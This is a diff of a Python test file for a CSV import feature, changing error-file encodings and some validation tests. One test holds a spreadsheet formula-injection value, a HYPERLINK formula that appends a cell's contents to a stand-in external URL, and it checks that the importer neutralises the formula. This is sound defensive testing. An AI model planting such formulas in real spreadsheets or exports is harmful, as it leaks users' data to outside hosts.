@@ -90,9 +90,9 @@ def test_invalid_rows_are_reported_with_row_field_and_reason_and_the_rest_import
 def test_the_rows_to_fix_can_be_fixed_and_imported_again(tmp_path, agent):
     errors = tmp_path / "errors.csv"
     run(write(tmp_path, GOOD + "rant,Bad kind,phone,E-3,,,,,,lucia\n"), "--errors", str(errors))
-    rows = list(csv.DictReader(errors.open()))
+    rows = list(csv.DictReader(errors.open(encoding="utf-8-sig")))
     assert len(rows) == 1 and rows[0]["row"] == "4" and rows[0]["error"].startswith("kind:")
-    fixed = errors.read_text().replace(",rant,", ",frustration,")
+    fixed = errors.read_text(encoding="utf-8-sig").replace(",rant,", ",frustration,")
     output = run(write(tmp_path, fixed, "fixed.csv"))
     assert "1 rows: 1 imported" in output
     assert Insight.objects.filter(external_id="E-3", kind="frustration").exists()
@@ -112,7 +112,6 @@ def test_rows_without_an_agent_go_to_the_agent_named_on_the_command_line(tmp_pat
         ("kind,text,channel\n", "utf-8", "has a header but no notes"),
         ("kind,text\nneed,Hi\n", "utf-8", "Missing columns: channel"),
         ("kind,text,channel,mood\nneed,Hi,phone,happy\n", "utf-8", "Unknown columns: mood"),
-        ("kind,text,channel,agent\nneed,Años sin tarjeta,phone,lucia\n", "latin-1", "not UTF-8"),
         ("kind,text,channel,text\nneed,Hi,phone,Ho\n", "utf-8", "Columns named twice: text"),
         ("\n\n", "utf-8", "The file is empty"),
         # No header at all: the first row of data is taken for one, and none of it is echoed.
@@ -238,7 +237,7 @@ def test_a_workers_report_is_written_in_the_uploaders_language(client_for, lead,
     [
         (b"need,Has a \x00 in it,phone,B-1,,lucia", "text", "null character"),
         (b"need,Fine text,phone,B-1,,luc\x00ia", "agent", "null character"),
-        (b"need,Caf\xe9 latin-1,phone,B-1,,lucia", "text", "not UTF-8"),
+        (b"need,Caf\xe9 latin-1 in UTF-8: a\xc3\xb1o \xc3\xa9l,phone,B-1,,lucia", "text", "not UTF-8"),
         (b"need," + b"x" * 200_000 + b",phone,B-1,,lucia", "row", "not valid CSV"),
         (b"need," + b"y" * 20_000 + b",phone,B-1,,lucia", "text", "far too long"),
         (b"need,Old,phone,B-1,0001-01-01T00:00+01:00,lucia", "occurred_at", "from the year 2000"),
@@ -303,7 +302,7 @@ def test_messages_and_the_rows_to_fix_carry_redacted_values_only(tmp_path, agent
     text += f"need,Fine,phone,R-2,{CANARY_PHONE},lucia\n"
     errors = tmp_path / "errors.csv"
     output = run(write(tmp_path, text), "--errors", str(errors))
-    written = errors.read_text()
+    written = errors.read_text(encoding="utf-8-sig")
     for echoed in (output, written):
         assert "zq7canary" not in echoed and "345" not in echoed
     assert "row 2: kind: Unknown kind [EMAIL]" in output
@@ -351,9 +350,9 @@ def test_formulas_in_the_rows_to_fix_are_neutralised_and_survive_a_round_trip(tm
     errors = tmp_path / "errors.csv"
     text = HEAD + 'rant,"=HYPERLINK(""http://x.example/?""&A1)",phone,+F-1,,lucia\n'
     run(write(tmp_path, text), "--errors", str(errors))
-    row = next(csv.DictReader(errors.open()))
+    row = next(csv.DictReader(errors.open(encoding="utf-8-sig")))
     assert row["text"] == '\'=HYPERLINK("http://x.example/?"&A1)' and row["external_id"] == "'+F-1"
-    fixed = errors.read_text().replace(",rant,", ",need,")
+    fixed = errors.read_text(encoding="utf-8-sig").replace(",rant,", ",need,")
     assert "1 imported" in run(write(tmp_path, fixed, "fixed.csv"))
     note = Insight.objects.get()
     assert note.text.startswith("=HYPERLINK") and note.external_id == "+F-1"
@@ -383,10 +382,10 @@ def test_the_upload_page_states_the_limits_and_the_retention(client_for, setting
     assert "At most 2.0\xa0KB and 77 rows per file" in page and "is kept for 9 days" in page
 
 
-def test_a_file_that_is_not_utf8_is_refused_on_the_form(client_for, agent, _media):
-    body = "kind,text,channel,agent\nneed,Años sin tarjeta,phone,lucia\n".encode("latin-1")
+def test_a_file_that_is_not_text_is_refused_on_the_form(client_for, agent, _media):
+    body = b"PK\x03\x04\x00\x00\x00\x00" * 50
     response = client_for("lead").post("/notes/import/", {"file": SimpleUploadedFile("l.csv", body)})
-    assert "not UTF-8" in response.content.decode() and ImportJob.objects.count() == 0
+    assert "not a text file" in response.content.decode() and ImportJob.objects.count() == 0
 
 
 def test_the_command_refuses_files_over_the_limits(tmp_path, agent, settings):
@@ -406,7 +405,7 @@ def test_the_rows_to_fix_are_capped_with_a_line_saying_how_many_more(tmp_path, a
     text = HEAD + "".join(f"rant,Bad {i},phone,C-{i},,lucia\n" for i in range(5))
     output = run(write(tmp_path, text), "--errors", str(errors))
     assert "5 with errors" in output
-    rows = list(csv.DictReader(errors.open()))
+    rows = list(csv.DictReader(errors.open(encoding="utf-8-sig")))
     assert [r["row"] for r in rows] == ["2", "3", "4", ""]
     assert rows[-1]["error"] == "2 more rows with errors are not listed; fix these and import again to see them."
     again = run(errors, "--agent", "lucia")  # the last line has no values: skipped, not an error
@@ -523,7 +522,7 @@ def test_a_job_killed_mid_way_resumes_after_its_last_committed_chunk_without_dup
     job = import_jobs.run_import_job(job.pk)
     assert (job.status, job.rows, job.created, job.duplicates, job.invalid) == ("done", 6, 4, 0, 2)
     assert Insight.objects.count() == 4 and not job.file
-    with open(job.error_file.path, encoding="utf-8") as listed:
+    with open(job.error_file.path, encoding="utf-8-sig") as listed:
         rows = [r["row"] for r in csv.DictReader(listed)]
     assert rows == ["3", "4"]  # the bad row of the killed chunk is listed once
 
@@ -608,7 +607,7 @@ def test_a_chunk_caught_by_the_soft_time_limit_is_undone_and_the_job_queued_agai
 
 
 def listed_rows(job: ImportJob) -> list[str]:
-    with open(job.error_file.path, encoding="utf-8") as listed:
+    with open(job.error_file.path, encoding="utf-8-sig") as listed:
         return [r["row"] for r in csv.DictReader(listed)]
 
 
